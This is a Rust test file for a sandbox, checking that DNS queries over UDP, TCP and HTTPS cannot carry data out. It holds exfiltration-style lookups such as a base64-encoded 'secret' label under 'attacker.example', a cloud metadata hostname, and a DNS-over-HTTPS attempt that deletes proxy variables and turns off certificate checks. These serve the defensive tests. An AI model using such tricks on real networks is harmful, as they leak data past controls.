//! Names as a way out: whatever is asked of whomever, nothing leaves.

use crate::{confined, denied, stopped};

/// Asks a server over UDP or TCP for the address of a name, and prints the answer's code and how many records it has.
const ASK: &str = "
import socket, struct, sys
how, server, port, name = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
query = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0)
query += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if how == 'udp' else socket.SOCK_STREAM)
s.settimeout(2)
try:
    s.connect((server, port))
    s.sendall(query if how == 'udp' else struct.pack('>H', len(query)) + query)
    answer = s.recv(2000)
    answer = answer if how == 'udp' else (answer if len(answer) > 2 else answer + s.recv(2000))[2:]
    print('code', answer[3] & 15, 'records', struct.unpack('>H', answer[6:8])[0])
except OSError as e:
    print('failed', e)
";

#[tokio::test(flavor = "multi_thread")]
async fn over_udp_and_tcp_every_server_is_the_sandboxs_own() {
    let (confined, canary) = confined().await;
    let port = canary.udp().to_string();
    stopped(&confined, &canary, ASK, &["udp", "127.0.0.1", &port, "x.attacker.example"]).await;
    let port = canary.tcp().to_string();
    stopped(&confined, &canary, ASK, &["tcp", "127.0.0.1", &port, "x.attacker.example"]).await;
    for how in ["udp", "tcp"] {
        for server in ["203.0.113.53", "127.0.0.1"] {
            let ask = async |name: &str| confined.python(ASK, &[how, server, "53", name]).await.stdout;
            assert_eq!(ask("api.example.com").await.trim(), "code 0 records 1", "{how} {server}");
            for name in ["c2VjcmV0.attacker.example", "other.example.com", "metadata.google.internal", "example.com"] {
                assert_eq!(ask(name).await.trim(), "code 3 records 0", "{how} {server} {name}");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn over_https_it_is_a_request_like_any_other() {
    const DOH: &str = "
import ssl, urllib.request
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
try:
    print(urllib.request.urlopen('https://203.0.113.53/dns-query?dns=AAAB', context=context, timeout=5).status)
except Exception as e:
    print('failed', e)
";
    let (confined, _) = confined().await;
    for without in ["", "import os\nfor n in list(os.environ):\n    if 'proxy' in n.lower(): del os.environ[n]\n"] {
        let inside = confined.python(&format!("{without}{DOH}"), &[]).await;
        assert!(inside.stdout.contains("failed"), "{inside:?}");
    }
    let denied = denied(&confined);
    assert!(denied.iter().filter(|line| line.starts_with("203.0.113.53:443 ")).count() >= 2, "{denied:?}");
}
